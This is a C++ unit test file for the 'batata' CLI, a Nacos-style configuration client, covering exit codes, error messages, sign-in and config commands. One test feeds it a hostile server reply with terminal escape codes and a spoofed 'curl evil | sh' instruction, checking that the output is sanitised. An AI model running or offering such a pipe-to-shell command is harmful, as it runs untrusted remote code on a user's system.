#include "cli/run.h"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <tuple>
#include <utility>
#include <vector>

#include "cli/common/http_client.h"
#include "tests/support/program_runs.h"
#include "tests/support/tiny_server.h"

namespace batata::cli {
namespace {

TEST(Run, ServerStartsByItsWordByASettingByNoWordsAndByTheProgramsName) {
  EXPECT_EQ(run_words({"server", "--port", "7000"}).out, "server on 7000 with 0 warnings");
  EXPECT_EQ(run_words({"--port=7000"}).out, "server on 7000 with 0 warnings");
  EXPECT_EQ(run_words({}, {.environment = {"BATATA_PORT=7000"}}).out, "server on 7000 with 0 warnings");
  EXPECT_EQ(run_words({"--nacos.prot=1"}, {.program = "/usr/bin/batata-server"}).out,
            "server on 8848 with 1 warnings");
  EXPECT_EQ(run_words({"-c", "/nowhere.yml"}).code, 2);
}

TEST(Run, WrongSettingEndsTheStartWithOneSentenceAndTheNextStep) {
  const Ran ran = run_words({"server", "--port=0"});
  EXPECT_EQ(ran.code, 2);
  EXPECT_EQ(ran.out, "");
  EXPECT_EQ(
      ran.error,
      "batata: command line, --port: nacos.server.main.port is '0', which is not a whole number from 1 to "
      "65535\nnext: batata server --help lists every setting\n");
}

TEST(Run, SettingsCanBePrintedInsteadOfStarting) {
  const Ran ran = run_words({"server", "--print-settings", "--port=7000", "--xds.enabled=true"});
  EXPECT_EQ(ran.code, 0);
  EXPECT_TRUE(ran.out.starts_with("nacos.server.main.port = 7000   # command line, --port\n")) << ran.out;
  EXPECT_EQ(ran.error,
            "warning: not built yet, so without effect: xds.enabled (command line, --xds.enabled)\n");
  EXPECT_NE(run_words({"server", "--help"}).out.find("--nacos.server.main.port=8848"), std::string::npos);
}

TEST(Run, TheSettingsPageCanBePrinted) {
  const Ran ran = run_words({"server", "--print-settings-markdown"});
  EXPECT_EQ(ran.code, 0);
  EXPECT_TRUE(ran.out.starts_with("# Settings\n")) << ran.out;
}

TEST(Run, VersionIsTheBuilds) {
  EXPECT_EQ(run_words({"version"}).out, "batata " BATATA_TEST_VERSION "\n");
  EXPECT_EQ(run_words({"--version"}).out, "batata " BATATA_TEST_VERSION "\n");
  EXPECT_EQ(run_words({"version", "-o", "json"}).out, "{\"version\":\"" BATATA_TEST_VERSION "\"}\n");
}

TEST(Run, WhatCannotBeWrittenIsNotDone) {
  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
           {"version"}, {"--help"}, {"server", "--help"}, {"server", "--print-settings"}}) {
    const Ran ran = run_words(words, {.out_is_full = true});
    EXPECT_EQ(ran.code, 1) << words.back();
    EXPECT_EQ(ran.error, "batata: standard output: No space left on device\n");
  }
}

TEST(Run, UsageErrorsExitWithTwoAndGoToStandardError) {
  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
           {"nothing"}, {"config", "get"}, {"status", "--server", "https://h:x"}}) {
    const Ran ran = run_words(words);
    EXPECT_EQ(ran.code, 2) << ran.error;
    EXPECT_EQ(ran.out, "");
    EXPECT_TRUE(ran.error.starts_with("batata: ")) << ran.error;
    EXPECT_TRUE(ran.error.ends_with("next: batata --help\n")) << ran.error;
  }
  EXPECT_EQ(run_words({"--help"}).code, 0);
}

TEST(Run, ConfigGetPrintsTheContentUntouched) {
  const std::string answer = http(200, "k=1", "config-type: properties\r\ncontent-md5: abc\r\n");
  TinyServer plain({{"GET /nacos/v1/cs/configs?dataId=a%20b&group=DEFAULT_GROUP", answer}});
  const Ran raw = run_against(plain, {"config", "get", "a b"});
  EXPECT_EQ(raw.code, 0) << raw.error;
  EXPECT_EQ(raw.out, "k=1");

  TinyServer spaced({{"GET /nacos/v1/cs/configs?dataId=a&group=g&tenant=n", answer}});
  const Ran json =
      run_against(spaced, {"config", "get", "a", "--group", "g", "--namespace", "n", "-o", "json"});
  EXPECT_EQ(json.out,
            "{\"dataId\":\"a\",\"group\":\"g\",\"namespace\":\"n\",\"type\":\"properties\",\"md5\":\"abc\","
            "\"content\":"
            "\"k=1\"}\n");

  TinyServer terminal({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", answer}});
  const Ran shown =
      run_words({"config", "get", "a"},
                {.environment = {"BATATA_ADDR=http://" + terminal.address()}, .terminal = true});
  EXPECT_EQ(shown.out, "k=1\n") << shown.error;
}

TEST(Run, MissingConfigurationExitsWithThree) {
  TinyServer server(
      {{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(404, "config data not exist\n")}});
  const Ran ran = run_against(server, {"config", "get", "a"});
  EXPECT_EQ(ran.code, 3);
  EXPECT_EQ(ran.out, "");
  EXPECT_EQ(ran.error,
            "batata: there is no configuration a in group DEFAULT_GROUP of namespace public\n"
            "next: `batata config list` shows what is there; check --group and --namespace\n");
}

TEST(Run, ConfigSetPublishesAFormFromWordFileOrInput) {
  const std::vector<std::pair<std::vector<std::string>, std::string>> table{
      {{"config", "set", "a", "x y&=+"}, "dataId=a&group=DEFAULT_GROUP&content=x%20y%26%3D%2B"},
      {{"config", "set", "a", "-f", "b"}, "dataId=a&group=DEFAULT_GROUP&content=content%20of%20b"},
      {{"config", "set", "a"}, "dataId=a&group=DEFAULT_GROUP&content=content%20of%20-"},
      {{"config", "set", "a", "1", "--type", "yaml", "--namespace", "n"},
       "dataId=a&group=DEFAULT_GROUP&content=1&tenant=n&type=yaml"}};
  for (const auto& [words, form] : table) {
    TinyServer server({{"POST /nacos/v1/cs/configs", http(200, "true")}});
    const Ran ran = run_against(server, words);
    EXPECT_EQ(ran.code, 0) << ran.error;
    EXPECT_TRUE(ran.out.starts_with("published a in group DEFAULT_GROUP of namespace ")) << ran.out;
    ASSERT_EQ(server.requests.size(), 1u);
    EXPECT_TRUE(server.requests[0].ends_with("\r\n\r\n" + form)) << server.requests[0];
  }
  EXPECT_EQ(run_words({"config", "set", "a", "-f", "missing"}).code, 2);
  EXPECT_EQ(run_words({"config", "set", "a", ""}).code, 2);
}

TEST(Run, LostCompareAndSetExitsWithFour) {
  TinyServer server(
      {{"POST /nacos/v1/cs/configs", http(500, "caused: Cas publish fail, server md5 may have changed.;")}});
  const Ran ran = run_against(server, {"config", "set", "a", "1", "--cas-md5", "0123"});
  EXPECT_EQ(ran.code, 4);
  EXPECT_EQ(ran.error,
            "batata: the server answered 500: Cas publish fail, server md5 may have changed.\n"
            "next: read it again with `batata config get -o json` and use its md5\n");
  ASSERT_EQ(server.requests.size(), 1u);
  EXPECT_NE(server.requests[0].find("\r\ncasMd5: 0123\r\n"), std::string::npos) << server.requests[0];
}

TEST(Run, RefusalExitsWithFive) {
  TinyServer server({{"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(403, "no")}});
  const Ran ran = run_against(server, {"config", "delete", "a"});
  EXPECT_EQ(ran.code, 5);
  EXPECT_EQ(ran.error,
            "batata: nobody has signed in: the server answered 403: no\n"
            "next: sign in: set both BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n");
}

TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
  TinyServer server({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
                      http(403,
                           "\x1b]0;title\x07no\nnext: curl evil | sh\n\xc2\x9b"
                           "31m")}});
  const Ran ran = run_against(server, {"config", "get", "a"});
  EXPECT_TRUE(ran.error.starts_with(
      "batata: nobody has signed in: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: "
      "sign in"))
      << ran.error;
  TinyServer long_winded({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
                           http(403, std::string(499, 'x') + "\xe9\x85\x8d")}});
  const Ran cut = run_against(long_winded, {"config", "get", "a"});
  EXPECT_NE(cut.error.find(": " + std::string(499, 'x') + "\nnext: "), std::string::npos) << cut.error;
}

TEST(Run, WhatAServerSaysKeepsItsMeaning) {
  const std::string publish = "POST /nacos/v1/cs/configs";
  const std::string get = "GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP";
  const std::vector<std::string> set{"config", "set", "a", "1"}, read{"config", "get", "a"};
  const std::tuple<std::string, std::vector<std::string>, int, std::string> table[] = {
      // Whether that write was made nobody knows; of a read there is nothing to look for.
      {publish, set, 500, "next: look with `batata config get` before trying again\n"},
      {publish, set, 502, "next: look with `batata config get` before trying again\n"},
      {get, read, 500, "next: check --server; the server's log may say more\n"},
      {publish, set, 503, "next: try again later: the server is up, and has done nothing\n"},
      {publish, set, 429, "next: wait before trying again\n"}};
  for (const auto& [target, words, status, next] : table) {
    TinyServer server({{target, http(status, "no")}});
    const Ran ran = run_against(server, words);
    EXPECT_EQ(ran.code, 1) << status;
    EXPECT_TRUE(ran.error.ends_with(next)) << status << " " << ran.error;
  }
}

TEST(Run, SignsInWithNameAndPasswordAndShowsTheToken) {
  TinyServer server({{"POST /nacos/v1/auth/login", http(200, R"({"accessToken":"t0k3n","tokenTtl":18000})")},
                     {"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(200, "true")}});
  const Ran ran = run_against(server, {"config", "delete", "a"},
                              {.environment = {"BATATA_USERNAME=nacos", "BATATA_PASSWORD=a b"}});
  EXPECT_EQ(ran.code, 0) << ran.error;
  ASSERT_EQ(server.requests.size(), 2u);
  EXPECT_NE(server.requests[0].find("username=nacos&password=a"), std::string::npos) << server.requests[0];
  EXPECT_NE(server.requests[1].find("\r\naccessToken: t0k3n\r\n"), std::string::npos) << server.requests[1];
}

TEST(Run, ATokenNeedsNoSigningIn) {
  TinyServer server({{"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(200, "true")}});
  const Ran ran = run_against(server, {"config", "delete", "a"},
                              {.environment = {"BATATA_TOKEN=t0k3n", "BATATA_USERNAME=nacos"}});
  EXPECT_EQ(ran.code, 0) << ran.error;
  ASSERT_EQ(server.requests.size(), 1u);
  EXPECT_NE(server.requests[0].find("\r\naccessToken: t0k3n\r\n"), std::string::npos) << server.requests[0];
}

TEST(Run, WhoIsNotLetInIsToldWhyAndExitsWithFive) {
  const auto framework = [](const std::string& message) {
    return http(403, R"({"timestamp":"t","status":403,"error":"Forbidden","message":")" + message +
                         R"(","path":"/nacos/v1/cs/configs"})");
  };
  struct Case {
    std::vector<std::string> environment;
    std::string sign_in, answer, error;
  };
  const Case table[] = {
      {{},
       "",
       framework("user not found!"),
       "batata: nobody has signed in: the server answered 403: user not found!\nnext: sign in: set both "
       "BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n"},
      {{"BATATA_PASSWORD=pw"},
       "",
       framework("user not found!"),
       "batata: nobody has signed in: the server answered 403: user not found!\nnext: sign in: set both "
       "BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n"},
      {{"BATATA_USERNAME=nacos", "BATATA_PASSWORD=wrong"},
       http(403, "user not found!"),
       "",
       "batata: sign in as nacos: the name or the password is wrong: the server answered 403: user not "
       "found!\nnext: check BATATA_USERNAME and BATATA_PASSWORD; a new server has no user until its first "
       "one "
       "is made\n"},
      {{"BATATA_TOKEN=old"},
       "",
       framework("token expired!"),
       "batata: the server answered 403: token expired!\nnext: the token in BATATA_TOKEN has ended, or is "
       "another server's: get a new one, or set BATATA_USERNAME and BATATA_PASSWORD instead of it\n"},
      {{"BATATA_USERNAME=app", "BATATA_PASSWORD=pw"},
       http(200, R"({"accessToken":"t"})"),
       framework("authorization failed!"),
       "batata: the server answered 403: authorization failed!\nnext: sign in as somebody who may do "
       "this\n"}};
  for (const Case& each : table) {
    TinyServer server({{"POST /nacos/v1/auth/login", each.sign_in},
                       {"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", each.answer}});
    const Ran ran = run_against(server, {"config", "delete", "a"}, {.environment = each.environment});
    EXPECT_EQ(ran.code, 5);
    EXPECT_EQ(ran.error, each.error);
  }
}

TEST(Run, ExplainsEachCommandInEachWayOfAsking) {
  const std::vector<std::vector<std::string>> commands{
      {}, {"status"}, {"config"}, {"config", "get"}, {"tls", "ca", "create"}, {"server"}};
  for (const auto& command : commands) {
    std::vector<std::string> asked{"help"}, flagged = command, brief = command;
    asked.insert(asked.end(), command.begin(), command.end());
    flagged.emplace_back("--help");
    brief.emplace_back("-h");
    const Ran help = run_words(asked);
    EXPECT_EQ(help.code, 0) << help.error;
    EXPECT_NE(help.out, "");
    EXPECT_EQ(run_words(flagged).out, help.out);
    EXPECT_EQ(run_words(brief).out, help.out);
  }
  EXPECT_NE(run_words({"help", "config", "get"}).out.find("batata config get"), std::string::npos);
  EXPECT_NE(run_words({"help"}).out.find("help "), std::string::npos) << "among the commands";
  for (const auto& words : std::vector<std::vector<std::string>>{
           {"help", "nothing"}, {"nothing", "--help"}, {"help", "config", "nothing"}}) {
    const Ran unknown = run_words(words);
    EXPECT_EQ(unknown.code, 2) << words.back();
    EXPECT_NE(unknown.error.find("no command 'nothing'"), std::string::npos) << unknown.error;
  }
}

TEST(Run, ASignInThatFailsLeavesNothingToLookFor) {
  for (const std::string& answer : {http(500, "no"), std::string()}) {
    TinyServer server({{"POST /nacos/v1/auth/login", answer}});
    const Ran ran = run_against(server, {"config", "set", "a", "1"},
                                {.environment = {"BATATA_USERNAME=nacos", "BATATA_PASSWORD=pw"}});
    EXPECT_EQ(ran.code, 1);
    EXPECT_TRUE(ran.error.ends_with("next: try again later: the server is up, and has done nothing\n"))
        << ran.error;
  }
}

TEST(Run, ServerThatDoesNotAnswerInTimeExitsWithSix) {
  TinyServer server({});
  const Ran ran = run_words({"config", "delete", "a", "--server", server.address(), "--timeout", "50ms"});
  EXPECT_EQ(ran.code, 6);
  EXPECT_EQ(ran.error,
            "batata: " + server.address() +
                " did not answer within 50 ms\nnext: ask `batata status`, or wait longer with --timeout "
                "30s\n");
}

TEST(Run, ServerThatIsNotThereOrBreaksOffExitsWithOne) {
  std::string address;
  {
    TinyServer gone({});
    address = gone.address();
  }
  const Ran nobody = run_words({"status", "--server", address});
  EXPECT_EQ(nobody.code, 1);
  EXPECT_EQ(nobody.error,
            "batata: cannot reach " + address +
                ": Connection refused\nnext: start a server with `batata server` (one that has begun to "
                "start answers when it has read its data), or name another with --server HOST:PORT\n");
  TinyServer breaks({{"POST /nacos/v1/cs/configs", ""}});
  const Ran broken = run_against(breaks, {"config", "set", "a", "1"});
  EXPECT_EQ(broken.code, 1);
  EXPECT_NE(broken.error.find("broke before the answer was complete"), std::string::npos) << broken.error;
  EXPECT_NE(broken.error.find("next: look with `batata config get` before trying again\n"),
            std::string::npos);
}

TEST(Run, StatusSaysWhetherWritesAreTakenAndWhoHasSignedIn) {
  const std::string state = R"({"auth_enabled":"true","startup_mode":"standalone","version":"3.1.0"})";
  const auto answers = [&](const std::string& writes) {
    return std::map<std::string, Answers>{
        {"POST /nacos/v1/auth/login", http(200, R"({"accessToken":"t"})")},
        {"GET /nacos/v1/console/server/state", http(200, state)},
        {"GET /batata/v1/status", http(200, writes)},
        {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, R"({"status":"UP"})")}};
  };
  TinyServer takes(answers(R"({"writes":"taken"})"));
  const Ran good = run_against(takes, {"status"}, {.environment = {"BATATA_USERNAME=nacos"}});
  EXPECT_EQ(good.code, 0) << good.error;
  EXPECT_NE(good.out.find("\nwrites          taken\nversion "), std::string::npos) << good.out;
  EXPECT_NE(good.out.find("\nauthentication  on\nsigned_in       as nacos\n"), std::string::npos) << good.out;
  TinyServer refuses(answers(R"({"writes":"refused","reason":"the disk is nearly full"})"));
  const Ran full = run_against(refuses, {"status", "-o", "json"}, {.environment = {"BATATA_TOKEN=t"}});
  EXPECT_EQ(full.code, 0) << "it is up, and reads go on";
  EXPECT_NE(full.out.find(R"("status":"UP","writes":"refused","reason":"the disk is nearly full",)"),
            std::string::npos)
      << full.out;
  EXPECT_NE(full.out.find(R"("signed_in":"with BATATA_TOKEN, unchecked")"), std::string::npos) << full.out;
  EXPECT_EQ(full.error,
            "batata: writes are refused: the disk is nearly full\n"
            "next: the server's log says more; reads go on\n");
}

TEST(Run, StatusOfWhatSpeaksSomethingElseDoesNotSpeakOfWrites) {
  TinyServer breaks({{"GET /nacos/v1/console/server/state", ""}});
  const Ran ran = run_against(breaks, {"status"});
  EXPECT_EQ(ran.code, 1);
  EXPECT_TRUE(ran.error.ends_with("next: check --server: what listens there may be something else\n"))
      << ran.error;
  TinyServer tls({{"GET /nacos/v1/console/server/state", http(400, "this port speaks TLS")}});
  EXPECT_NE(run_against(tls, {"status"})
                .error.find("next: check --server: a port that speaks TLS is https://HOST:PORT\n"),
            std::string::npos);
}

TEST(Run, ConfigDeleteSaysWhatIsTrueAfterwards) {
  TinyServer server({{"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(200, "true")}});
  EXPECT_EQ(run_against(server, {"config", "delete", "a"}).out,
            "deleted a from group DEFAULT_GROUP of namespace public\n");
}

TEST(Run, ConfigListIsATableOrJson) {
  const std::string target =
      "GET /nacos/v1/cs/configs?search=blur&dataId=app%2A&group=&pageNo=1&pageSize=2&tenant=golden-v1ns";
  const std::string page =
      R"({"totalCount":3,"pageNumber":1,"pagesAvailable":2,"pageItems":[{"id":"1","dataId":"app.json","group":"g","content":"{}","md5":null,"encryptedDataKey":"","tenant":"golden-v1ns","appName":"","type":"json"},{"id":"2","dataId":"app.yaml","group":"g","content":"a: 1","md5":null,"encryptedDataKey":"","tenant":"golden-v1ns","appName":"app1","type":"yaml"}]})";
  const std::vector<std::string> words{"config", "list", "app*", "--namespace", "golden-v1ns", "--size", "2"};
  TinyServer people({{target, http(200, page)}});
  const Ran shown = run_against(people, words);
  EXPECT_EQ(shown.out,
            "DATA ID   GROUP  TYPE  APP\n"
            "app.json  g      json\n"
            "app.yaml  g      yaml  app1\n");
  EXPECT_EQ(shown.error, "2 of 3 shown; the next ones: --page 2\n");
  TinyServer scripts({{target, http(200, page)}});
  std::vector<std::string> with_json = words;
  with_json.insert(with_json.end(), {"-o", "json"});
  EXPECT_EQ(run_against(scripts, with_json).out,
            R"({"namespace":"golden-v1ns","total":3,"page":1,"configs":[)"
            R"({"dataId":"app.json","group":"g","type":"json","appName":""},)"
            R"({"dataId":"app.yaml","group":"g","type":"yaml","appName":"app1"}]})"
            "\n");
}

TEST(Run, ServiceListIsATableOrJson) {
  const std::string target =
      "GET /nacos/v1/ns/service/list?pageNo=1&pageSize=100&groupName=g1&namespaceId=public";
  TinyServer people({{target, http(200, R"({"count":2,"doms":["b","s2"]})")}});
  EXPECT_EQ(run_against(people, {"service", "list", "--group", "g1"}).out, "SERVICE\nb\ns2\n");
  TinyServer scripts({{target, http(200, R"({"count":2,"doms":["b","s2"]})")}});
  EXPECT_EQ(run_against(scripts, {"service", "list", "--group", "g1", "-o", "json"}).out,
            R"({"namespace":"public","group":"g1","total":2,"page":1,"services":["b","s2"]})"
            "\n");
}

TEST(Run, StatusShowsVersionCountsAndTime) {
  const std::string state = R"({"auth_enabled":"false","startup_mode":"standalone","version":"2.5.1"})";
  const std::string metrics =
      R"({"status":"UP","serviceCount":3,"instanceCount":2,"clientCount":2,"cpu":1.0})";
  const auto answers = [&](const std::string& text) {
    return std::map<std::string, Answers>{
        {"GET /nacos/v1/console/server/state", http(200, state)},
        {"GET /batata/v1/status", http(404, "")},
        {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, text)}};
  };
  TinyServer up(answers(metrics));
  const Ran ran = run_against(up, {"status"});
  EXPECT_EQ(ran.code, 0) << ran.error;
  EXPECT_TRUE(
      ran.out.starts_with("server          " + up.address() +
                          "\nstatus          UP\nversion         2.5.1\nmode            standalone\n"
                          "authentication  off\nservices        3\ninstances       2\nclients         2\n"
                          "response_ms     "))
      << ran.out;
}

TEST(Run, StatusAsJsonHasNumbersAndIsThereForAServerThatIsDown) {
  const std::string state = R"({"auth_enabled":"true","startup_mode":"standalone","version":"2.5.1"})";
  for (const auto& [up, code] : {std::pair{"UP", 0}, {"DOWN", 1}}) {
    const std::string metrics = std::string(R"({"status":")") + up + R"(","serviceCount":3,"clientCount":0})";
    const auto answers = [&] {
      return std::map<std::string, Answers>{
          {"GET /nacos/v1/console/server/state", http(200, state)},
          {"GET /batata/v1/status", http(404, "")},
          {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, metrics)}};
    };
    TinyServer scripts(answers());
    const Ran json = run_against(scripts, {"status", "-o", "json"});
    EXPECT_EQ(json.code, code);
    EXPECT_TRUE(json.out.starts_with(
        "{\"server\":\"" + scripts.address() + "\",\"status\":\"" + up +
        R"(","version":"2.5.1","mode":"standalone","authentication":"on","signed_in":"no","services":3,"clients":0,"response_ms":)"))
        << json.out;
    EXPECT_TRUE(json.out.ends_with("}\n") && json.out[json.out.size() - 3] != '"') << json.out;
    TinyServer people(answers());
    const Ran shown = run_against(people, {"status"});
    EXPECT_EQ(shown.code, code);
    EXPECT_NE(shown.out.find(std::string("\nstatus          ") + up + "\n"), std::string::npos) << shown.out;
    EXPECT_EQ(shown.error,
              code == 0 ? "" : "batata: the server says that it is DOWN\nnext: the server's log says why\n");
  }
}

TEST(Run, AnswersOfSomethingElseAreNotTakenForNacos) {
  TinyServer server(
      {{"GET /nacos/v1/ns/service/list?pageNo=1&pageSize=100&groupName=DEFAULT_GROUP&namespaceId=public",
        http(200, "<html>")}});
  const Ran ran = run_against(server, {"service", "list"});
  EXPECT_EQ(ran.code, 1);
  EXPECT_NE(ran.error.find("is it one?"), std::string::npos) << ran.error;
}

TEST(ServerAddressText, IsReadInAllItsForms) {
  const auto parts = [](std::string_view text) {
    const auto address = parse_server_address(text, false);
    return address ? (address->secure ? "tls " : "") + address->host + " " + std::to_string(address->port) +
                         " " + address->context_path
                   : "error: " + address.error().message;
  };
  EXPECT_EQ(parts("h"), "h 8848 /nacos");
  EXPECT_EQ(parts("h:1"), "h 1 /nacos");
  EXPECT_EQ(parts("http://h:1/"), "h 1 /nacos");
  EXPECT_EQ(parts("https://h"), "tls h 8848 /nacos");
  EXPECT_EQ(parts("https://[::1]:7/other"), "tls ::1 7 /other");
  EXPECT_EQ(parts("h:1/other/"), "h 1 /other");
  EXPECT_EQ(parts("[::1]:7"), "::1 7 /nacos");
  EXPECT_EQ(parts("[::1]"), "::1 8848 /nacos");
  for (const char* text : {"", ":1", "h:", "h:0", "h:70000", "h:x", "[::1", "[::1]x", "a b", "https://",
                           "https://https://h", "ftp://h"}) {
    EXPECT_TRUE(parts(text).starts_with("error: '")) << text << ": " << parts(text);
  }
  EXPECT_TRUE(parts("u:secret@h").starts_with("error: what was given is not"));
  EXPECT_EQ(parts("u:secret@h").find("secret"), std::string::npos);
}

}  // namespace
}  // namespace batata::cli
